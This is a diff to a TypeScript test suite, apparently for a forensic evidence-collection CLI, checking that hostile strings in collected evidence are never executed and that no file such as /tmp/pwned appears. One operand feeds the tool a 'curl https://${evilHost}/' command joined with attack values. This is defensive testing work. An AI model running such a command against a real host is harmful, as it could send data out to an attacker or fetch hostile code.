@@ -33,27 +33,30 @@ beforeAll(async () => {
   const root = join(folder, 'evidence');
   const home = buildHostileHome(root);
   const bag = join(folder, 'bag');
-  await runCli(['collect', bag, '--home', home, '--root', root]);
-  const operands: Readonly<Record<string, readonly string[]>> = {
-    scan: [join(home)],
-    explain: [`curl https://${evilHost}/ ${Object.values(attacks).slice(0, -1).join(' ')}`],
-    collect: ['--dry-run'],
-    verify: [bag],
-  };
+  const spool = join(folder, 'spool');
   const document = join(folder, 'case.json');
+  const evidence = ['--home', home, '--root', root];
+  const database = ['--database', join(folder, 'fleet.duckdb')];
+  await runCli(['collect', bag, ...evidence]);
+  const spooling = ['--spool', spool, '--host-id', 'host', ...evidence];
+  await runCli(['report', ...spooling]);
+  await runCli(['scan', home, ...spooling]);
+  const given: Readonly<Record<string, readonly string[]>> = {
+    scan: [home, ...evidence],
+    explain: [`curl https://${evilHost}/ ${Object.values(attacks).slice(0, -1).join(' ')}`],
+    collect: ['--dry-run', ...evidence],
+    verify: [bag],
+    'fleet load': [spool, ...database],
+    'fleet hunt': ['all', ...database],
+    'fleet report': database,
+    'fleet schema': [],
+  };
   for (const { name, format } of forms.toSorted(
     (a, b) => Number(b.format === 'json') - Number(a.format === 'json'),
   )) {
     const isRendering = name === 'report' && format !== 'json';
-    const argv = [
-      name,
-      ...(operands[name] ?? []),
-      '--format',
-      format,
-      '--output',
-      '-',
-      ...(isRendering ? ['--from', document] : ['--home', home, '--root', root]),
-    ];
+    const options = isRendering ? ['--from', document] : (given[name] ?? evidence);
+    const argv = [...name.split(' '), ...options, '--format', format, '--output', '-'];
     const { code, stdout, stderr } = await runCli(argv, {
       env: { FORCE_COLOR: '1', PATH: process.env['PATH'] ?? '' },
       cwd: folder,
@@ -68,7 +71,7 @@ beforeAll(async () => {
     outputs.set(`${name} ${format}`, { name, format, text: stdout });
     outputs.set(`${name} ${format} (standard error)`, { name, format: 'text', text: stderr });
   }
-}, 60_000);
+}, 240_000);
 
 afterAll(() => rmSync(folder, { recursive: true, force: true }));
 
@@ -93,7 +96,7 @@ describe('hostile strings in the evidence', () => {
 
   it('touch no file', () => {
     expect(existsSync('/tmp/pwned')).toBe(false);
-    expect(readdirSync(folder).sort()).toEqual(['bag', 'case.json', 'evidence']);
+    expect(readdirSync(folder).sort()).toEqual(['bag', 'case.json', 'evidence', 'fleet.duckdb', 'spool']);
     expect(readdirSync(join(folder, 'evidence'))).toEqual(['home']);
   });
 
